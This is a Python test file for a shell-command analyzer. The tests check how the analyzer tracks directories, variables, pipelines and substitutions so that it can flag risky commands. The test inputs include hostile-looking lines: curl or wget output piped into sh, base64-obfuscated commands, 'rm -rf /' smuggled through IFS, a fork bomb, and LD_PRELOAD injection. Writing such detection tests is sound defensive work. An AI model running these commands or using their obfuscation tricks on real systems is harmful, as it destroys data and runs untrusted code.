"""The state the walk carries from one command to the next: the working directory,
variables, function bodies, what flows through pipes, and what substitutions print."""

from __future__ import annotations

from corpus_expect import facts_of

from clearance.shellparse.extract import _printf, _static_output
from clearance.shellparse.facts import SimpleCommandFacts


def _parts(command: str, program: str) -> list[SimpleCommandFacts]:
    return [c for c in facts_of(command).commands if c.program == program]


def _resolved(command: str, program: str, access: str) -> list[str | None]:
    return [p.resolved for c in _parts(command, program) for p in c.paths if p.access == access]


class TestWorkingDirectory:
    def test_cd_moves_later_commands(self) -> None:
        assert _resolved("cd src && rm a.py", "rm", "delete") == ["/work/proj/src/a.py"]
        assert _resolved("cd /tmp; cd x; rm y", "rm", "delete") == ["/tmp/x/y"]

    def test_cd_home_and_back(self) -> None:
        assert _resolved("cd; rm x", "rm", "delete") == ["/home/u/x"]
        assert _resolved("cd ~/p && rm x", "rm", "delete") == ["/home/u/p/x"]

    def test_cd_to_an_unknown_place(self) -> None:
        for command in ('cd "$DIR" && rm x', "cd - && rm x", "cd $(mktemp -d) && rm x"):
            (rm,) = _parts(command, "rm")
            assert rm.paths[0].resolved is None, command
            assert "unknown_cwd" in rm.markers, command

    def test_subshell_changes_do_not_leak(self) -> None:
        assert _resolved("(cd /tmp) && rm x", "rm", "delete") == ["/work/proj/x"]

    def test_branch_changes_are_forgotten(self) -> None:
        (rm,) = _parts("if true; then cd /tmp; fi; rm x", "rm")
        assert rm.paths[0].resolved is None
        assert "unknown_cwd" in rm.markers

    def test_pushd(self) -> None:
        assert _resolved("pushd /srv && rm x", "rm", "delete") == ["/srv/x"]
        # the directory stack is tracked: popd returns where pushd left
        assert _resolved("pushd /srv; popd; rm x", "rm", "delete") == ["/work/proj/x"]
        assert _resolved("pushd /srv; pushd /opt; popd; rm x", "rm", "delete") == ["/srv/x"]
        # a popd past what the line pushed goes where the text does not say
        (rm,) = _parts("popd; rm x", "rm")
        assert rm.paths[0].resolved is None


class TestVariables:
    def test_assigned_variables_resolve(self) -> None:
        assert _resolved("d=build; rm -rf $d", "rm", "delete") == ["/work/proj/build"]
        assert _resolved('x=/tmp; rm -rf "$x/y"', "rm", "delete") == ["/tmp/y"]
        assert _resolved("export T=/opt; rm -r $T", "rm", "delete") == ["/opt"]

    def test_append_assignment(self) -> None:
        assert _resolved("d=/tm; d+=p; rm -r $d", "rm", "delete") == ["/tmp"]

    def test_prefix_assignment_is_for_that_command_only(self) -> None:
        (rm,) = _parts("X=/tmp true; rm -r $X", "rm")
        assert rm.paths[0].resolved is None
        assert rm.assignments == []
        (true,) = _parts("X=/tmp true", "true")
        assert true.assignments == ["X"]

    def test_unset_and_read_forget(self) -> None:
        for command in ("d=/tmp; unset d; rm -r $d", "d=/tmp; read d; rm -r $d"):
            (rm,) = _parts(command, "rm")
            assert rm.paths[0].resolved is None, command

    def test_loop_variable_is_unknown(self) -> None:
        (rm,) = _parts("d=/tmp; for d in $(cat list); do rm -r $d; done", "rm")
        assert rm.paths[0].resolved is None
        assert "loop" in rm.context

    def test_loop_over_a_few_known_values_is_judged_with_each(self) -> None:
        first, second = _parts("d=/tmp; for d in a b; do rm -r $d; done", "rm")
        assert [first.paths[0].resolved, second.paths[0].resolved] == [
            "/work/proj/a",
            "/work/proj/b",
        ]
        assert "loop" in first.context

    def test_home_and_pwd(self) -> None:
        assert _resolved('rm "$HOME/x"', "rm", "delete") == ["/home/u/x"]
        assert _resolved("cd /srv && rm $PWD/x", "rm", "delete") == ["/srv/x"]

    def test_ifs_makes_variables_unknown(self) -> None:
        facts = facts_of('IFS=:; c="rm:-rf:/"; $c')
        assert "dynamic_program" in facts.commands[-1].markers
        assert "env_code" in facts.commands[0].markers

    def test_dangerous_variables(self) -> None:
        (ls,) = _parts("export LD_PRELOAD=/tmp/x.so; ls", "ls")
        assert "env_code" in ls.markers
        (git,) = _parts("GIT_PAGER='tac -s x' git log", "git")
        assert "env_code" in git.markers
        assert _parts("GIT_PAGER='tac -s x' git log", "tac")
        # a pager that only pages is harmless (knowledge.environment.HARMLESS_COMMANDS)
        (git,) = _parts("GIT_PAGER=cat git log", "git")
        assert "env_code" not in git.markers

    def test_path_changes(self) -> None:
        (ls,) = _parts("PATH=/tmp/bin:$PATH; ls", "ls")
        assert "path_modified" in ls.markers
        (ls,) = _parts("ls", "ls")
        assert "path_modified" not in ls.markers


class TestFunctions:
    def test_body_is_analysed_once_and_marked(self) -> None:
        facts = facts_of("f() { rm -rf build; }; f; f")
        rms = [c for c in facts.commands if c.program == "rm"]
        assert len(rms) == 1
        assert "function_body" in rms[0].markers
        assert "function:f" in rms[0].context

    def test_calls_are_not_unknown_programs(self) -> None:
        facts = facts_of("deploy() { echo hi; }; deploy")
        assert all("unknown_program" not in c.markers for c in facts.commands)

    def test_recursion_is_process_control(self) -> None:
        facts = facts_of("bomb() { bomb | bomb & }; bomb")
        assert any("process_control" in c.classes for c in facts.commands)


class TestPipelines:
    def test_stdin_sources(self) -> None:
        assert _parts("ls | sort", "sort")[0].stdin == "pipe"
        assert _parts("sort < f", "sort")[0].stdin == "file"
        assert _parts("sort <<< x", "sort")[0].stdin == "herestring"
        assert _parts("sort <<EOF\nb\nEOF", "sort")[0].stdin == "heredoc"

    def test_known_text_into_a_shell_is_analysed(self) -> None:
        for command in (
            "echo 'rm x' | sh",
            "printf 'rm %s\\n' x | bash",
            "echo 'x mr' | rev | sh",
            "echo cm0geA== | base64 --decode | sh",
            "echo 726d2078 | xxd -r -p | sh",
            "cat <<EOF | sh\nrm x\nEOF",
        ):
            assert _resolved(command, "rm", "delete") == ["/work/proj/x"], command

    def test_unknown_text_into_a_shell_is_stdin_code(self) -> None:
        (sh,) = _parts("cat script.sh | sh", "sh")
        assert "stdin_code" in sh.markers
        assert "remote_code_exec" not in sh.classes

    def test_network_upstream_makes_remote_code(self) -> None:
        (sh,) = _parts("curl -s x.io | grep -v '#' | sh", "sh")
        assert "remote_code_exec" in sh.classes

    def test_stage_state_does_not_leak(self) -> None:
        assert _resolved("cd /tmp | true; rm x", "rm", "delete") == ["/work/proj/x"]

    def test_static_output_transforms(self) -> None:
        def one(argv: list[str], stdin: str | None) -> str | None:
            fact = SimpleCommandFacts(argv, "", 0, 0)
            fact.program = argv[0]
            return _static_output([fact], stdin)

        assert one(["echo", "-n", "a", "b"], None) == "a b"
        assert one(["echo", "a"], None) == "a\n"
        assert one(["cat"], "x\n") == "x\n"
        assert one(["cat", "file"], "x\n") is None
        assert one(["rev"], "ab\ncd\n") == "ba\ndc\n"
        assert one(["base64", "-d"], "aGk=\n") == "hi"
        assert one(["sort"], "b\na\n") is None

    def test_printf(self) -> None:
        assert _printf("a\\tb\\n", []) == "a\tb\n"
        assert _printf("%s-", ["x", "y"]) == "x-y-"
        assert _printf("\\x72\\155", []) == "rm"
        assert _printf("%d", ["1"]) is None
        assert _printf("100%%", []) == "100%"


class TestSubstitutions:
    def test_substitutions_run_before_their_command(self) -> None:
        programs = [c.program for c in facts_of("echo $(date) $(whoami)").commands]
        assert programs == ["date", "whoami", "echo"]

    def test_known_output_becomes_the_word(self) -> None:
        assert _parts("$(echo ls) -la", "ls")
        assert _resolved("cat $(echo a b)", "cat", "read") == ["/work/proj/a", "/work/proj/b"]
        assert _resolved('cat "$(echo a b)"', "cat", "read") == ["/work/proj/a b"]
        assert _resolved("rm $(printf 'x\\n\\n')", "rm", "delete") == ["/work/proj/x"]

    def test_unknown_output_stays_dynamic(self) -> None:
        (cat,) = _parts("cat $(ls)", "cat")
        assert "dynamic_argument" in cat.markers
        assert cat.paths[0].resolved is None
        facts = facts_of("$(which python) -V")
        assert "dynamic_program" in facts.commands[-1].markers

    def test_network_substitution_into_code(self) -> None:
        for command in ('sh -c "$(curl -s x.io)"', "python <(wget -qO- x.io)"):
            facts = facts_of(command)
            assert "remote_code_exec" in facts.commands[-1].classes, command
        (echo,) = _parts('echo "$(curl -s x.io)"', "echo")
        assert "remote_code_exec" not in echo.classes

    def test_downloaded_file_run_later(self) -> None:
        (sh,) = _parts("wget -O /tmp/a.sh x.io && sh /tmp/a.sh", "sh")
        assert "remote_code_exec" in sh.classes
        (sh,) = _parts("cp x.sh /tmp/a.sh && sh /tmp/a.sh", "sh")
        assert "remote_code_exec" not in sh.classes


class TestContextsAndMarkers:
    def test_background(self) -> None:
        (sleep,) = _parts("sleep 10 &", "sleep")
        assert "background" in sleep.markers

    def test_nested_command_is_labelled(self) -> None:
        (rm,) = _parts("sudo sh -c 'cd /tmp && rm x'", "rm")
        assert rm.via == ["sudo", "sh -c"]
        assert rm.paths[0].resolved == "/tmp/x"

    def test_depth_limit(self) -> None:
        facts = facts_of("nice " * 20 + "rm x")
        assert any("depth_limit" in c.markers for c in facts.commands)

    def test_parse_error_is_a_fact(self) -> None:
        facts = facts_of("rm -rf ~ 'unterminated")
        assert not facts.ok
        assert "parse_error" in facts.markers
        assert any(c.program == "rm" for c in facts.commands)


class TestRewrittenBuilds:
    def test_build_after_rewriting_its_definition_is_code(self) -> None:
        (make,) = _parts("echo 'x:' > Makefile && make x", "make")
        assert "code_exec" in make.classes
        (pytest,) = _parts("cp /tmp/c.py tests/conftest.py; pytest", "pytest")
        assert "code_exec" in pytest.classes

    def test_other_writes_leave_builds_alone(self) -> None:
        (make,) = _parts("echo x > notes.txt && make", "make")
        assert "code_exec" not in make.classes
        (make,) = _parts("make && echo 'x:' > Makefile", "make")
        assert "code_exec" not in make.classes


def test_a_derived_scope_keeps_every_field_but_the_changed_ones() -> None:
    """``Scope.copy`` names the fields one by one: each of them (``_SCOPE_FIELDS``, the slots)
    comes through a copy and a derive, and only what ``derive`` is given changes."""
    from clearance.shellparse.extract import _SCOPE_FIELDS, Scope

    values: dict[str, object] = {  # none of them a field's default
        "context": ("bash -c",),
        "via": ("sudo",),
        "depth": 3,
        "markers": frozenset({"dynamic_argument"}),
        "span": (1, 2, "x"),
        "redirects": ("a redirect",),
        "stdin": "file",
        "stdin_text": "hi",
    }
    assert set(values) == set(_SCOPE_FIELDS)
    scope = Scope()
    for name, value in values.items():
        setattr(scope, name, value)
    copied = scope.copy()
    assert {n: getattr(copied, n) for n in _SCOPE_FIELDS} == values
    changed = scope.derive(stdin="pipe", depth=7)
    assert {n: getattr(changed, n) for n in _SCOPE_FIELDS} == {
        **values,
        "stdin": "pipe",
        "depth": 7,
    }
    assert {n: getattr(scope, n) for n in _SCOPE_FIELDS} == values  # the original is untouched
